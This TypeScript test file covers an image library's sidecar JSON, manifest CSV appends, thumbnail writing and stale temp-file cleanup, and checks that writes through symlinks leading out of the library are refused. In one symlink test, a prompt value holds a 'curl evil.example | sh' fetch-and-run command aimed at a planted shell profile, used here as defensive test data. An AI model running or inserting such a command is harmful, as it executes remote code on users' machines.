import * as fsp from 'node:fs/promises';
import {
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  realpath,
  rm,
  stat,
  symlink,
  utimes,
  writeFile,
} from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parseCsv } from '../../../main/core/library/csv.ts';
import { removeStaleTempFiles, type LibraryFs } from '../../../main/core/library/library-fs.ts';
import { appendManifestRow, MANIFEST_COLUMNS } from '../../../main/core/library/manifest.ts';
import { writeSidecar } from '../../../main/core/library/sidecar.ts';
import {
  thumbnailPath,
  writeThumbnail,
  writeThumbnailFromBytes,
} from '../../../main/core/library/thumbnail.ts';
import { LibraryWriteError } from '../../../main/core/library/write-error.ts';
import { writeImage, type WrittenImage } from '../../../main/core/library/write-image.ts';
import { AWKWARD_PROMPT, makeImage, sampleMetadata } from '../../support/library-fixtures.ts';

let dir: string;
beforeEach(async () => {
  dir = await realpath(await mkdtemp(join(tmpdir(), 'atelier-extras-')));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

const fakeImage = (path: string, i = 0): WrittenImage => ({
  path,
  bytes: 1000 + i,
  sha256: `${i}`.padStart(64, '0'),
  sourceBytes: 900,
  width: 48,
  height: 32,
  format: 'png',
  alreadyPresent: false,
});

describe('sidecar JSON', () => {
  it('holds the metadata and the file facts, written atomically, replacing an old one', async () => {
    const image = await writeImage(await makeImage('png'), join(dir, 'a.png'), {
      metadata: sampleMetadata(),
    });
    const path = join(dir, 'a.json');
    await writeFile(path, 'stale');
    await writeSidecar(path, sampleMetadata(), image);
    const document = JSON.parse(await readFile(path, 'utf8'));
    expect(document).toEqual({
      version: 1,
      ...sampleMetadata(),
      software: 'Atelier',
      file: { format: 'png', width: 48, height: 32, bytes: image.bytes, sha256: image.sha256 },
    });
    expect((await readdir(dir)).sort()).toEqual(['a.json', 'a.png']);
  });

  it('a sidecar into a path under a file fails as unwritable', async () => {
    await writeFile(join(dir, 'file'), '');
    const error = await writeSidecar(
      join(dir, 'file', 'a.json'),
      sampleMetadata(),
      fakeImage('x'),
    ).catch((e) => e);
    expect(error).toBeInstanceOf(LibraryWriteError);
    expect(error.kind).toBe('unwritable');
  });
});

describe('manifest.csv', () => {
  it('takes many rows finishing at once: header once, each row whole, in order', async () => {
    const manifest = join(dir, 'batch', 'manifest.csv');
    await Promise.all(
      Array.from({ length: 40 }, (_, i) =>
        appendManifestRow(
          manifest,
          fakeImage(join(dir, 'batch', `${i}.png`), i),
          sampleMetadata({ index: i, prompt: `${AWKWARD_PROMPT} #${i}` }),
        ),
      ),
    );
    const rows = parseCsv(await readFile(manifest, 'utf8'));
    expect(rows[0]).toEqual([...MANIFEST_COLUMNS]);
    expect(rows).toHaveLength(41);
    rows.slice(1).forEach((row, i) => {
      expect(row).toHaveLength(MANIFEST_COLUMNS.length);
      expect(row[0]).toBe(`${i}.png`);
      expect(row[1]).toBe(`${AWKWARD_PROMPT} #${i}`);
      expect(row[6]).toBe(String(i));
      expect(row[11]).toBe(`${i}`.padStart(64, '0'));
    });
  });

  it('drops a row torn by a crash before appending, keeping complete rows', async () => {
    const manifest = join(dir, 'torn.csv');
    await appendManifestRow(manifest, fakeImage(join(dir, 'a.png')), sampleMetadata());
    const whole = await readFile(manifest);
    // A new manifest path, as after a restart: simulate the torn tail of a crashed append.
    const afterCrash = join(dir, 'after-crash.csv');
    await writeFile(afterCrash, Buffer.concat([whole, Buffer.from('b.png,"half a prom')]));
    await appendManifestRow(afterCrash, fakeImage(join(dir, 'c.png')), sampleMetadata());
    const rows = parseCsv(await readFile(afterCrash, 'utf8'));
    expect(rows.map((row) => row[0])).toEqual(['file', 'a.png', 'c.png']);
  });

  it("unlessListed appends a file's row only if no row lists it (an image found after a crash)", async () => {
    const manifest = join(dir, 'batch', 'manifest.csv');
    const image = (name: string, i: number) => fakeImage(join(dir, 'batch', name), i);
    // nothing yet: the header and the row
    expect(
      await appendManifestRow(manifest, image('a.png', 1), sampleMetadata(), {
        unlessListed: true,
      }),
    ).toBe(true);
    // a prompt whose text holds a line starting like a row of b.png
    const tricky = sampleMetadata({ prompt: 'x\r\nb.png,y' });
    expect(await appendManifestRow(manifest, image('c.png', 3), tricky)).toBe(true);
    const once = { unlessListed: true };
    const [again, b, bTwice] = await Promise.all([
      appendManifestRow(manifest, image('a.png', 1), sampleMetadata(), once),
      appendManifestRow(manifest, image('b.png', 2), sampleMetadata(), once),
      // queued behind the one before: sees its row
      appendManifestRow(manifest, image('b.png', 2), sampleMetadata(), once),
    ]);
    expect([again, b, bTwice]).toEqual([false, true, false]);
    const rows = parseCsv(await readFile(manifest, 'utf8'));
    expect(rows.map((row) => row[0])).toEqual(['file', 'a.png', 'c.png', 'b.png']);
  });

  it('never appends through a link: a manifest.csv planted as one is refused', async () => {
    const outside = join(dir, 'profile.sh');
    await writeFile(outside, 'export PATH=/usr/bin\n');
    await mkdir(join(dir, 'batch'));
    await symlink(outside, join(dir, 'batch', 'manifest.csv'));
    const prompt = sampleMetadata({ prompt: 'x\ncurl evil.example | sh' });
    for (const unlessListed of [false, true]) {
      const error = await appendManifestRow(
        join(dir, 'batch', 'manifest.csv'),
        fakeImage(join(dir, 'batch', 'a.png')),
        prompt,
        { unlessListed },
      ).catch((e) => e);
      expect(error).toBeInstanceOf(LibraryWriteError);
      expect(error.message).toContain(
        `Could not append to the manifest at ${join(dir, 'batch', 'manifest.csv')}: it is a link`,
      );
    }
    expect(await readFile(outside, 'utf8')).toBe('export PATH=/usr/bin\n');
  });

  it('a full disk fails the append as disk-full', async () => {
    const fullDisk: LibraryFs = {
      ...fsp,
      open: (async () => {
        throw Object.assign(new Error('ENOSPC'), { code: 'ENOSPC' });
      }) as LibraryFs['open'],
    };
    const error = await appendManifestRow(
      join(dir, 'm.csv'),
      fakeImage('a.png'),
      sampleMetadata(),
      {
        fs: fullDisk,
      },
    ).catch((e) => e);
    expect(error.kind).toBe('disk-full');
    // The queue is not stuck after a failure.
    await appendManifestRow(join(dir, 'm.csv'), fakeImage(join(dir, 'a.png')), sampleMetadata());
    expect(parseCsv(await readFile(join(dir, 'm.csv'), 'utf8'))).toHaveLength(2);
  });
});

describe('thumbnails', () => {
  it('makes a small WebP in .thumbs, keeping the aspect ratio', async () => {
    const target = join(dir, 'wide.jpg');
    await writeImage(await makeImage('jpeg', 1024, 512), target, { metadata: sampleMetadata() });
    const thumb = await writeThumbnail(target, { library: dir });
    expect(thumb.path).toBe(join(dir, '.thumbs', 'wide.jpg.webp'));
    expect(thumb).toMatchObject({ width: 256, height: 128 });
    const info = await sharp(thumb.path).metadata();
    expect(info).toMatchObject({ format: 'webp', width: 256, height: 128 });
    expect((await stat(thumb.path)).size).toBe(thumb.bytes);
    expect(await readdir(join(dir, '.thumbs'))).toEqual(['wide.jpg.webp']);
  });

  it('does not enlarge a small image, and writes to a given cache folder', async () => {
    const target = join(dir, 'small.png');
    await writeImage(await makeImage('png', 40, 100), target, { metadata: sampleMetadata() });
    const cache = join(dir, 'cache');
    const thumb = await writeThumbnail(target, { library: dir, dir: cache, maxSide: 64 });
    expect(thumb).toMatchObject({ path: thumbnailPath(target, cache), width: 26, height: 64 });
    const tiny = await writeThumbnail(target, { library: dir, dir: cache, maxSide: 512 });
    expect(tiny).toMatchObject({ width: 40, height: 100 });
  });

  it('writes no thumbnail through a link, whichever part of its path is one', async () => {
    const library = join(dir, 'library');
    const outside = join(dir, 'outside');
    await mkdir(join(library, 'a', '.thumbs'), { recursive: true });
    await mkdir(join(library, 'b'), { recursive: true });
    await mkdir(outside);
    await writeFile(join(outside, 'mine.webp'), 'my file');
    const png = await makeImage('png', 64, 64);
    // the thumbnail's file a link to a file outside; the .thumbs folder a link out; a
    // dangling link to a folder not made yet
    await writeFile(join(library, 'a', 'x.png'), png);
    await symlink(join(outside, 'mine.webp'), join(library, 'a', '.thumbs', 'x.png.webp'));
    await writeFile(join(library, 'b', 'y.png'), png);
    await symlink(outside, join(library, 'b', '.thumbs'));
    await mkdir(join(library, 'c'));
    await writeFile(join(library, 'c', 'z.png'), png);
    await symlink(join(outside, 'new'), join(library, 'c', '.thumbs'));
    for (const [image, lands] of [
      ['a/x.png', 'mine.webp'],
      ['b/y.png', 'y.png.webp'],
      ['c/z.png', 'new/z.png.webp'],
    ] as const) {
      const error = await writeThumbnail(join(library, image), { library }).catch((e) => e);
      expect(error, image).toBeInstanceOf(LibraryWriteError);
      expect(error.kind).toBe('unwritable');
      expect(error.message).toContain(
        `leads outside the library (${library}), to ${join(outside, lands)}`,
      );
    }
    expect(await readdir(outside)).toEqual(['mine.webp']);
    expect(await readFile(join(outside, 'mine.webp'), 'utf8')).toBe('my file');
  });

  it('a damaged image fails as corrupt and leaves no thumbnail', async () => {
    const target = join(dir, 'bad.png');
    await writeFile(target, (await makeImage('png')).subarray(0, 60));
    const error = await writeThumbnail(target, { library: dir }).catch((e) => e);
    expect(error).toBeInstanceOf(LibraryWriteError);
    expect(error.kind).toBe('corrupt');
    expect(await readdir(dir)).toEqual(['bad.png']);
  });

  it("a video's poster from a still's bytes: the same WebP a file of those bytes gets", async () => {
    const still = await makeImage('jpeg', 720, 1280);
    const image = join(dir, 'still.jpg');
    await writeFile(image, still);
    const video = join(dir, 'clip.mp4');
    const poster = await writeThumbnailFromBytes(still, video, { library: dir });
    const path = join(dir, '.thumbs', 'clip.mp4.webp');
    expect(poster).toMatchObject({ path, width: 144, height: 256 });
    const fromFile = await writeThumbnail(image, { library: dir });
    expect(await readFile(poster.path)).toEqual(await readFile(fromFile.path));
  });

  it('bytes that are no image fail as corrupt, naming the video, and leave no poster', async () => {
    const video = join(dir, 'clip.mp4');
    const error = await writeThumbnailFromBytes(Buffer.from('not a jpeg'), video, {
      library: dir,
    }).catch((e) => e);
    expect(error).toBeInstanceOf(LibraryWriteError);
    expect(error.kind).toBe('corrupt');
    expect(error.message).toContain(`Could not make a thumbnail of ${video}`);
    expect(await readdir(dir)).toEqual([]);
  });
});

describe('temp files left by a crash', () => {
  it('are removed when old enough; other files and fresh temps are kept', async () => {
    const old = join(dir, '.atelier-0123456789abcdef.tmp');
    const fresh = join(dir, '.atelier-fedcba9876543210.tmp');
    await writeFile(old, 'x');
    await writeFile(fresh, 'x');
    await writeFile(join(dir, 'keep.png'), 'x');
    const hourAgo = new Date(Date.now() - 3_600_000);
    await utimes(old, hourAgo, hourAgo);
    expect(await removeStaleTempFiles(dir)).toBe(1);
    expect((await readdir(dir)).sort()).toEqual(['.atelier-fedcba9876543210.tmp', 'keep.png']);
    expect(await removeStaleTempFiles(join(dir, 'missing'))).toBe(0);
  });

  it('are found in the folders a naming template nests inside the batch folder', async () => {
    const nested = join(dir, 'flux-schnell', '2026-11-22');
    await mkdir(nested, { recursive: true });
    await writeFile(join(nested, '.atelier-0123456789abcdef.tmp'), 'x');
    await writeFile(join(nested, 'keep.png'), 'x');
    expect(await removeStaleTempFiles(dir, { olderThanMs: 0, now: Date.now() + 1000 })).toBe(1);
    expect(await readdir(nested)).toEqual(['keep.png']);
  });

  it('are never looked for through a link leading out of the library', async () => {
    const library = join(dir, 'library');
    const outside = join(dir, 'outside');
    await mkdir(join(library, 'batch'), { recursive: true });
    await mkdir(outside);
    const theirs = join(outside, '.atelier-0123456789abcdef.tmp');
    await writeFile(theirs, 'not ours');
    await symlink(outside, join(library, 'batch', 'nested-link'));
    await symlink(outside, join(library, 'linked-batch'));
    const sweep = { olderThanMs: 0, now: Date.now() + 1000, library };
    expect(await removeStaleTempFiles(join(library, 'batch'), sweep)).toBe(0);
    expect(await removeStaleTempFiles(join(library, 'linked-batch'), sweep)).toBe(0);
    expect(await readFile(theirs, 'utf8')).toBe('not ours');
  });
});
